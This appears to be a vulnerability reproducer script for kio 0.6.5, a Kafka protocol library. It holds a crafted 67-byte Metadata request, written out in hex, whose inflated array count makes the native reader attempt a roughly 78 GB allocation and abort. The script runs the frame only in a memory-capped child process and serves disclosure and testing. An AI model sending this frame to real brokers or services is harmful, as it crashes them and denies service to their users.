"""kio 0.6.5: a 67-byte request whose array count lies makes the native reader allocate ~78 GB;
the allocation fails and Rust aborts the process (no exception a server could catch).

Run with the project's virtualenv:  .venv/bin/python findings/kio-array-count-allocation/reproduce.py

The decoding runs in a child process whose address space is capped (RLIMIT_AS, 2 GiB), so the
reproducer never threatens the machine: the child dies on the failed allocation and this script
reports how. Expected with kio 0.6.5: the child is killed by SIGABRT ("memory allocation of
78310840120 bytes failed" on its stderr); a reader that refuses a count larger than the bytes
remaining (as Kafka's generated readers do) would raise an exception instead.
"""

from __future__ import annotations

import resource
import signal
import subprocess
import sys
from importlib.metadata import version

FRAME = bytes.fromhex(
    "0003000b000074bfffff00e8a5d8bb24ebd5a5b44691cacdf456850706721c6e6765f5756e20adbd84ea6ab4"
    "8d7937c83535fc0c736f036b2d6d656d62657200010100"
)
"""A Metadata v11 request (header v2 + body) as the reference broker received it, 67 bytes: its
topics count is a 5-byte unsigned varint saying 9,788,855,016 (compact: count + 1)."""

CHILD = """
import sys
from kio.index import load_request_schema
from kio.serial import entity_reader
frame = bytes.fromhex(sys.argv[1])
request = load_request_schema(3, 11)
header, at = entity_reader(request.__header_schema__)(frame, 0)
print(f"header read: api_key={header.request_api_key} version={header.request_api_version}", flush=True)
body, size = entity_reader(request)(frame, at)
print(f"body read ({size} bytes): no allocation failure", flush=True)
"""
LIMIT = 2 * 1024**3


def _cap_memory() -> None:
    resource.setrlimit(resource.RLIMIT_AS, (LIMIT, LIMIT))


def main() -> int:
    print(f"kio {version('kio')}, Python {sys.version.split()[0]}; frame of {len(FRAME)} bytes")
    child = subprocess.run(
        [sys.executable, "-c", CHILD, FRAME.hex()],
        capture_output=True,
        text=True,
        preexec_fn=_cap_memory,
        check=False,
    )
    print(child.stdout.strip())
    if child.stderr.strip():
        print("child stderr:", child.stderr.strip().splitlines()[0])
    if child.returncode < 0:
        name = signal.Signals(-child.returncode).name
        print(f"the decoding process died of {name}: the reader allocated from the count")
        return 1
    print(f"the decoding process exited {child.returncode}")
    return 0 if child.returncode == 0 else 1


if __name__ == "__main__":
    sys.exit(main())
